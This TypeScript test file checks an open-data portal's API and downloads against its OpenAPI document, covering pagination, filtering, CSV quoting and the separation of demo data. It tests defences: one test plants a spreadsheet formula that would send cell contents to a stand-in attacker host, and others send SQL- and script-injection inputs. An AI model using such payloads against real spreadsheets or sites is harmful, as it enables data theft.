/**
 * Contract tests: real responses of the route handlers, on the seeded database, validated
 * against the OpenAPI document the API publishes.
 */
import { createFundingEntry } from '@/tests/factories'
import Ajv2020 from 'ajv/dist/2020'
import addFormats from 'ajv-formats'
import { parse } from 'csv-parse/sync'
import { beforeEach, describe, expect, it } from 'vitest'
import { GET as getDataset } from '@/app/api/v1/[dataset]/route'
import { GET as getOpenApi } from '@/app/api/v1/openapi.json/route'
import { GET as getDownload } from '@/app/download/[file]/route'
import { DATASETS } from '@/lib/open-data/datasets'
import { runSeed } from '@/prisma/seed/run'
import { db } from '../../setup/test-db'

const origin = 'http://portal.test'
const api = (dataset: string, query = '') =>
  getDataset(new Request(`${origin}/api/v1/${dataset}${query}`), { params: Promise.resolve({ dataset }) })
const download = (file: string, query = '') =>
  getDownload(new Request(`${origin}/download/${file}${query}`), { params: Promise.resolve({ file }) })

type OpenApi = {
  paths: Record<string, { get: { responses: Record<string, { content: { 'application/json': { schema: object } } }> } }>
  components: object
}

async function validatorFor(path: string, status: string) {
  const doc = (await (getOpenApi(new Request(`${origin}/api/v1/openapi.json`)) as Response).json()) as OpenApi
  const ajv = new Ajv2020({ strict: false, allErrors: true })
  addFormats(ajv)
  ajv.addSchema({ $id: 'openapi', components: doc.components })
  const schema = doc.paths[path]?.get.responses[status]?.content['application/json'].schema
  if (!schema) throw new Error(`No schema for ${path} ${status}`)
  const rewritten = JSON.parse(JSON.stringify(schema).replaceAll('"#/components', '"openapi#/components'))
  return ajv.compile(rewritten)
}

beforeEach(async () => {
  await runSeed(db().prisma, { demo: true, devAccounts: false })
  // The seed corrects no origin: one correction of a public demo decision, as a chair makes it.
  const decision = await db().prisma.decision.findFirstOrThrow({
    where: { agendaItem: { isPrivate: false, meeting: { isPublic: true } } },
    select: { id: true, origin: true, board: { select: { areaId: true } } },
  })
  await db().prisma.originCorrection.create({
    data: {
      areaId: decision.board.areaId,
      kind: 'DECISION',
      entityId: decision.id,
      fromOrigin: decision.origin,
      toOrigin: decision.origin === 'CHAIR' ? 'LOCAL_PARTNER' : 'CHAIR',
      reason: 'Raised by the chair at the previous meeting',
    },
  })
})

describe('the open data API', () => {
  it.each(DATASETS.filter((d) => d.api).map((d) => d.name))('GET /api/v1/%s matches the OpenAPI document', async (name) => {
    const validate = await validatorFor(`/${name}`, '200')
    const response = await api(name, '?per_page=100')
    expect(response.status).toBe(200)
    expect(response.headers.get('access-control-allow-origin')).toBe('*')
    expect(response.headers.get('cache-control')).toMatch(/public/)
    const body = await response.json()
    const ok = validate(body)
    expect(validate.errors ?? []).toEqual([])
    expect(ok).toBe(true)
    expect(body.data.length).toBeGreaterThan(0)
    // The check has teeth: a field the document does not define, or a missing one, fails it.
    expect(validate({ ...body, data: [{ ...body.data[0], surprise: 1 }] })).toBe(false)
    const withoutId = Object.fromEntries(Object.entries(body.data[0]).filter(([k]) => k !== 'id'))
    expect(validate({ ...body, data: [withoutId] })).toBe(false)
  })

  it('pages through results with stable ids and links', async () => {
    const first = await (await api('priorities', '?per_page=10')).json()
    expect(first.meta).toEqual({ page: 1, per_page: 10, total: 43, total_pages: 5 })
    expect(first.links.next).toBe(`${origin}/api/v1/priorities?page=2&per_page=10`)
    expect(first.links.prev).toBeNull()
    const last = await (await api('priorities', '?per_page=10&page=5')).json()
    expect(last.data).toHaveLength(3)
    expect(last.links.next).toBeNull()
    const again = await (await api('priorities', '?per_page=10')).json()
    expect(again.data.map((r: { id: string }) => r.id)).toEqual(first.data.map((r: { id: string }) => r.id))
  })

  it('filters by area', async () => {
    const body = await (await api('measures', '?area=hastings')).json()
    expect(body.meta.total).toBe(9)
    expect(new Set(body.data.map((r: { area_slug: string }) => r.area_slug))).toEqual(new Set(['hastings']))
  })

  it.each([
    ['per_page too large', '?per_page=1000', /per_page must be between 1 and 100/],
    ['page 0', '?page=0', /page must be 1 or more/],
    ['page not a number', '?page=abc', /page must be a whole number/],
    ['area of 500 characters', '?area=' + 'x'.repeat(500), /at most 80 characters/],
    ['area not a slug', '?area=DROP%20TABLE', /area must be an area slug/],
  ])('answers %s with a 400 JSON error that matches the document', async (_label, query, message) => {
    const validate = await validatorFor('/areas', '400')
    const response = await api('areas', query)
    expect(response.status).toBe(400)
    const body = await response.json()
    expect(validate(body)).toBe(true)
    expect(body.error.message).toMatch(message)
  })

  it('answers an unknown area or dataset with 404', async () => {
    expect((await api('areas', '?area=atlantis')).status).toBe(404)
    expect((await api('users')).status).toBe(404)
    expect((await api('grants')).status).toBe(404) // grants are a download, not an API resource
  })
})

describe('downloads', () => {
  it('writes RFC 4180 CSV with a header row, money in pounds and pence, and the same rows as JSON', async () => {
    const csvResponse = await download('funding.csv', '?area=hastings')
    expect(csvResponse.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(csvResponse.headers.get('content-disposition')).toBe('attachment; filename="hastings-funding.csv"')
    const text = await csvResponse.text()
    expect(text.split('\r\n')[0]).toBe(
      DATASETS.find((d) => d.name === 'funding')
        ?.columns.map((c) => c.key)
        .join(','),
    )
    const rows = parse(text, { columns: true }) as Record<string, string>[]
    const year4 = rows.find((r) => r.period === '2020-21')
    expect(year4).toMatchObject({
      amount_pounds: '1250000.00',
      amount_pence: '125000000',
      qualifier: 'EXACT',
      kind: 'ALLOCATION',
    })
    const json = await (await download('funding.json', '?area=hastings')).json()
    expect(json).toHaveLength(rows.length)
    expect(json.map((r: { id: string }) => r.id)).toEqual(rows.map((r) => r.id))
  })

  it('quotes values with commas, quotes and line breaks', async () => {
    const rows = parse(await (await download('measures.csv', '?area=hastings')).text(), { columns: true }) as Record<
      string,
      string
    >[]
    const reading = rows.find((r) => r.name === 'Reading and English attainment at all key stages')
    expect(reading?.baseline_note).toContain('KS2 reading expected standard 57% vs 66% national;')
  })

  it('writes a published action title that looks like a formula as text in CSV, and unchanged in JSON', async () => {
    const attack = '=HYPERLINK("http://evil.example/?d="&A1,"Read more")'
    const action = await db().prisma.action.findFirstOrThrow({ where: { area: { slug: 'hastings' } } })
    await db().prisma.action.update({ where: { id: action.id }, data: { title: attack } })
    const csv = parse(await (await download('actions.csv', '?area=hastings')).text(), { columns: true }) as Record<
      string,
      string
    >[]
    expect(csv.find((r) => r.id === action.id)?.title).toBe(`'${attack}`)
    const json = (await (await download('actions.json', '?area=hastings')).json()) as { id: string; title: string }[]
    expect(json.find((r) => r.id === action.id)?.title).toBe(attack)
  })

  it('never counts fictional demo spend into a real allocation’s spent figure', async () => {
    // The seed pays demo spend from demo allocations only; a demo payment from a real
    // allocation (as an older seed made) must still never count into the real figure.
    const core = await db().prisma.allocation.findFirstOrThrow({
      where: { area: { slug: 'hastings' }, isDemo: false, kind: 'ALLOCATION' },
      select: { id: true, areaId: true },
    })
    const action = await db().prisma.action.findFirstOrThrow({ where: { areaId: core.areaId }, select: { id: true } })
    await createFundingEntry(db().prisma, {
      areaId: core.areaId,
      allocationId: core.id,
      actionId: action.id,
      kind: 'SPEND',
      amountPence: 390_000_000n,
      occurredOn: new Date('2020-03-31'),
      organisation: 'Demo provider (fictional)',
      isDemo: true,
      publishedAt: new Date(),
    })
    const rows = parse(await (await download('funding.csv', '?area=hastings')).text(), { columns: true }) as Record<
      string,
      string
    >[]
    expect(rows.find((r) => r.id === core.id)).toMatchObject({ is_demo: 'false', spent_pence: '', spent_pounds: '' })
  })

  it('exports allocations in the 360Giving shape, leaving out reported totals and demo rows', async () => {
    const grants = await (await download('grants.json')).json()
    const funding = await (await download('funding.json')).json()
    const allocations = funding.filter((f: { kind: string; is_demo: boolean }) => f.kind === 'ALLOCATION' && !f.is_demo)
    expect(grants).toHaveLength(allocations.length)
    expect(grants[0]).toMatchObject({
      Currency: 'GBP',
      'Funding Org:Name': expect.any(String),
      Identifier: expect.stringMatching(/^360G-oaportal-/),
    })
  })

  it('refuses unknown files and bad parameters without internals', async () => {
    expect((await download('users.csv')).status).toBe(404)
    expect((await download('areas.xml')).status).toBe(404)
    const bad = await download('areas.csv', '?area=%3Cscript%3E')
    expect(bad.status).toBe(400)
    expect(await bad.text()).not.toMatch(/at .*\.ts|prisma|stack/i)
  })
})
